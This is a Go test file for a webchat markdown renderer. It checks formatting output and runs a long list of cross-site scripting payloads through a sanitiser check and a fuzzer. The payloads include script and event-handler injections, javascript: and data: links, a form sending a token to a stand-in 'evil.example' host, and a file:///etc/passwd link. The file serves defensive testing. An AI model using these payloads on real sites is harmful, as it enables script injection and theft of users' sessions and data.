package webchat

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func TestMarkdown(t *testing.T) {
	var m markdown
	for _, tc := range []struct{ in, want string }{
		{"**bold** *it* ~~no~~ `a<b`", "<p><strong>bold</strong> <em>it</em> <del>no</del> <code>a&lt;b</code></p>"},
		{"two\nlines", "<p>two<br>\nlines</p>"},
		{"- a\n- b\n  1. c", "<ul>\n<li>a</li>\n<li>b\n<ol>\n<li>c</li>\n</ol>\n</li>\n</ul>"},
		{"3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>"},
		{"```go\na := 1 < 2\n```", "<pre><code class=\"language-go\">a := 1 &lt; 2\n</code></pre>"},
		{"| a | b |\n|---|--:|\n| 1 | 2 |", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>"},
		{"[a](https://example.org/?x=1&y=2)", `<p><a href="https://example.org/?x=1&amp;y=2" rel="nofollow noreferrer noopener" target="_blank">a</a></p>`},
		{"see https://example.org.", `<p>see <a href="https://example.org" rel="nofollow noreferrer noopener" target="_blank">https://example.org</a>.</p>`},
		{"![a cat](https://example.org/cat.png)", `<p><a href="https://example.org/cat.png" rel="nofollow noreferrer noopener" target="_blank">a cat</a></p>`},
		{"![](https://example.org/cat.png)", `<p><a href="https://example.org/cat.png" rel="nofollow noreferrer noopener" target="_blank">https://example.org/cat.png</a></p>`},
		{"[![a cat](https://example.org/cat.png)](https://example.org)", `<p><a href="https://example.org" rel="nofollow noreferrer noopener" target="_blank">a cat</a></p>`},
		{"[notes](notes.txt)", "<p>notes (notes.txt)</p>"},
		{"a <b>tag</b>", "<p>a &lt;b&gt;tag&lt;/b&gt;</p>"},
		{"<div>\nx\n</div>", "<pre><code>&lt;div&gt;\nx\n&lt;/div&gt;</code></pre>"},
		{"a & b &lt; c &copy;", "<p>a &amp; b &lt; c ©</p>"},
		{"", ""},
	} {
		if got := strings.TrimSpace(m.html(tc.in)); got != tc.want {
			t.Errorf("%q\n got %s\nwant %s", tc.in, got, tc.want)
		}
	}
}

// attacks are texts that would run a script, load something or leave the
// message, if they were let.
var attacks = []string{
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.example/x.js></sCrIpT>",
	"<img src=x onerror=alert(1)>",
	"<img/src=x/onerror=alert(1)>",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'>",
	"<object data=data:text/html,x></object><embed src=x>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<form action=//evil.example><input name=token><button>x</button></form>",
	"<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<base href=//evil.example/>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>*{background:url(//evil.example)}</style>",
	"<div style=\"position:fixed;inset:0\">x</div>",
	"<!--><script>alert(1)</script>-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version='1.0'?><script>alert(1)</script>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x]( javascript:alert(1))",
	"[x](java\nscript:alert(1))",
	"[x](java&#10;script:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](&#x6A;avascript&colon;alert(1))",
	"[x](\x01javascript:alert(1))",
	"[x](<javascript:alert(1)>)",
	"[x](vbscript:msgbox(1))",
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x](data:image/svg+xml;base64,PHN2Zz4=)",
	"[x](file:///etc/passwd)",
	"[x](//evil.example)",
	"[x](/api/session)",
	"[x](https://example.org \"\" onmouseover=alert(1) \")",
	"[x](https://example.org/\"onmouseover=alert(1))",
	"[x](https://example.org \"a\\\" onmouseover=alert(1)\")",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml,<svg onload=alert(1)>)",
	"![x](https://evil.example/pixel.png)",
	"![x\" onerror=\"alert(1)](https://example.org/x.png)",
	"<javascript:alert(1)>",
	"<data:text/html,x>",
	"[x]: javascript:alert(1)\n\n[x]",
	"```\"onload=alert(1)\nx\n```",
	"```x\" onmouseover=\"alert(1)\nx\n```",
	"```<script>\nx\n```",
	"`</code><script>alert(1)</script>`",
	"| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
	"# <img src=x onerror=alert(1)>",
	"> <svg/onload=alert(1)>",
	"- <details open ontoggle=alert(1)>",
	"http://example.org/<script>alert(1)</script>",
	"www.example.org/\"onmouseover=\"alert(1)",
	"mailto:a@b.c?\"onclick=alert(1)",
	"</div></article><script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"\\<script>alert(1)\\</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<<script>alert(1)//<</script>",
	"<a id=log name=scroll>x</a>", // clobbers what the page's script looks up
}

func TestMarkdownIsSafe(t *testing.T) {
	var m markdown
	for _, text := range attacks {
		for _, around := range []string{"%", "before % after", "- %\n- b", "> %", "**%**"} {
			checkSafe(t, m.html(strings.Replace(around, "%", text, 1)))
		}
	}
}

// allowed is what may be in a message, by element.
var allowed = map[string]string{
	"p": "", "br": "", "hr": "", "strong": "", "em": "", "del": "", "blockquote": "", "pre": "", "ul": "", "li": "",
	"h1": "", "h2": "", "h3": "", "h4": "", "h5": "", "h6": "", "table": "", "thead": "", "tbody": "", "tr": "",
	"ol": "start", "code": "class", "th": "align", "td": "align", "a": "href rel target",
}

// checkSafe reads markup as a browser does and looks at every element.
func checkSafe(t *testing.T, markup string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(markup))
	for z.Next() != html.ErrorToken {
		tok := z.Token()
		switch tok.Type {
		case html.StartTagToken, html.SelfClosingTagToken:
			checkElement(t, tok, markup)
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("a comment came through in %s", markup)
		case html.TextToken, html.EndTagToken, html.ErrorToken:
		}
	}
}

func checkElement(t *testing.T, tok html.Token, markup string) {
	t.Helper()
	attrs, ok := allowed[tok.Data]
	if !ok {
		t.Errorf("the element %s came through in %s", tok.Data, markup)
	}
	rel := ""
	for _, a := range tok.Attr {
		if !strings.Contains(" "+attrs+" ", " "+a.Key+" ") {
			t.Errorf("the attribute %s came through in %s", a.Key, markup)
		}
		switch a.Key {
		case "href":
			scheme, _, _ := strings.Cut(strings.ToLower(a.Val), ":")
			if scheme != "http" && scheme != "https" && scheme != "mailto" {
				t.Errorf("a link leads to %q in %s", a.Val, markup)
			}
		case "rel":
			rel = a.Val
		case "class":
			if !strings.HasPrefix(a.Val, "language-") || strings.ContainsAny(a.Val, " \"'<>") {
				t.Errorf("a class %q in %s", a.Val, markup)
			}
		}
	}
	if tok.Data == "a" && (!strings.Contains(rel, "nofollow") || !strings.Contains(rel, "noreferrer")) {
		t.Errorf("a link with rel=%q in %s", rel, markup)
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	var m markdown
	f.Fuzz(func(t *testing.T, text string) { checkSafe(t, m.html(text)) })
}

func BenchmarkMarkdown(b *testing.B) {
	var m markdown
	text := strings.Repeat("Some *words* and `code`.\n\n- one\n- two\n\n", 5)
	for b.Loop() {
		m.html(text)
	}
}
